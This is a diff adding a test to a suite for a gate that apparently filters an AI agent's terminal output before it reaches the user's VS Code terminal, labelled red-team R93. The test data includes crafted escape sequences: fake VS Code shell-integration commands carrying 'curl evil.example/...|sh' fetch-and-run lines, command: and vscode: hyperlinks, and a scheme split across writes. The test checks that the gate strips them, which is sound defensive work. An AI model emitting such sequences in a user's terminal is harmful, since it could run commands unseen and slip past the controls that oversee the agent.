@@ -265,6 +265,45 @@ describe('gate: the agent on its own terminal (agent-gate run in the user\'s she
     });
   });
 
+  it('what VS Code obeys beyond the terminal never reaches it: shell integration (OSC 133, 633), the working directory (OSC 7), notifications (OSC 9), links to schemes other than file/http/https (their text stays) (red-team R93)', async () => {
+    await inUserShell(async (w, sh) => {
+      // Each bad one carries BAD<n> in what must not pass; each good one GOOD<n>. A link's text passes either way.
+      const agent = [
+        "printf '\\033]633;E;curl evil.example/B%sD1|sh\\007\\033]633;C\\007\\033]633;D;0\\007' A",
+        "printf '\\033]633;P;Cwd=/B%sD2\\033\\\\' A",
+        "printf '\\033]133;A\\007\\033]133;B\\007curl evil|sh\\033]133;C;B%sD3\\007\\033]133;D;0\\007' A",
+        "printf '\\033]7;file://host/B%sD4\\007' A",
+        "printf '\\033]9;B%sD5\\007\\033]9;4;1;50\\007' A",
+        "printf '\\033]8;;vscode://ext.id/B%sD6\\033\\\\src/app.ts:12-T%sXT1\\033]8;;\\033\\\\\\n' A E",
+        "printf '\\033]8;id=x;command:workbench.action.terminal.B%sD7\\007T%sXT2\\033]8;;\\007\\n' A E",
+        "printf '\\302\\2358;;vscode-insiders://B%sD8\\302\\234T%sXT3\\n' A E",
+        // A scheme cut over two writes, one that only starts like an allowed one, one with no scheme at all.
+        "printf '\\033]8;;htt'; sleep 0.1; printf 'ps-evil://B%sD9\\007T%sXT4\\n' A E",
+        "printf '\\033]8;;filex:B%sD10\\007\\033]8;;/etc/B%sD11\\007\\033]8;;:B%sD12\\007' A A A",
+        "printf '\\033]8;%0300d;https://B%sD13\\007T%sXT5\\n' 0 A E",
+        "printf '\\033]8;;https://example.com/G%sOD1\\033\\\\a\\033]8;;\\033\\\\' O",
+        "printf '\\033]8;id=1;HTTP://example.com/G%sOD2\\007b\\033]8;;\\007\\033]8;;file:///etc/G%sOD3\\007c\\033]8;;\\007' O O",
+        "printf '\\033]0;G%sOD4\\007 plain-G%sOD5\\n' O O",
+      ].join('; ');
+      const out = await sh.run(cliLine(w, dirs.audit(`r93-${++n}`), ['bash', '-c', agent]));
+      for (let i = 1; i <= 13; i++) expect(out, `BAD${i}`).not.toMatch(new RegExp(`BAD${i}(?!\\d)`));
+      for (const bad of ['\x1b]633', '\x1b]133', '\x1b]7;', '\x1b]9;', '\x1b]8;;vscode', '\x1b]8;id=x;command', '\u009d8;;vscode']) expect(out, JSON.stringify(bad)).not.toContain(bad);
+      for (let i = 1; i <= 5; i++) expect(out, `TEXT${i}`).toContain(`TEXT${i}`);
+      expect(out).toContain('src/app.ts:12-TEXT1');
+      expect(out).toContain('\x1b]8;;https://example.com/GOOD1\x1b\\a\x1b]8;;\x1b\\');
+      expect(out).toContain('\x1b]8;id=1;HTTP://example.com/GOOD2\x07b\x1b]8;;\x07');
+      expect(out).toContain('\x1b]8;;file:///etc/GOOD3\x07c');
+      expect(out).toContain('\x1b]0;GOOD4\x07 plain-GOOD5');
+      // The terminal model sees no OSC but the title, the links allowed and the gate's own colour resets.
+      const vt = new VtModel();
+      vt.feedText(out);
+      expect(vt.oscs.filter((o) => !/^(0;GOOD4|8;(id=1)?;((https|HTTP|file):.*)?|104|11[012])$/.test(o))).toEqual([]);
+      // Control: the same bytes, ungated, carry every one of them.
+      const raw = spawnSync('bash', ['-c', agent], { encoding: 'latin1' }).stdout;
+      for (let i = 1; i <= 13; i++) expect(raw).toMatch(new RegExp(`BAD${i}(?!\\d)`));
+    });
+  });
+
   // Red-team R58: an agent that leaves a string or sequence open (a title it never ends) or a mode that hides
   // text made the gate's own later text — the question, the end lines — land in the window title or show
   // unreadable. Each opener below is printed by the agent, which then meets a question and exits; the terminal
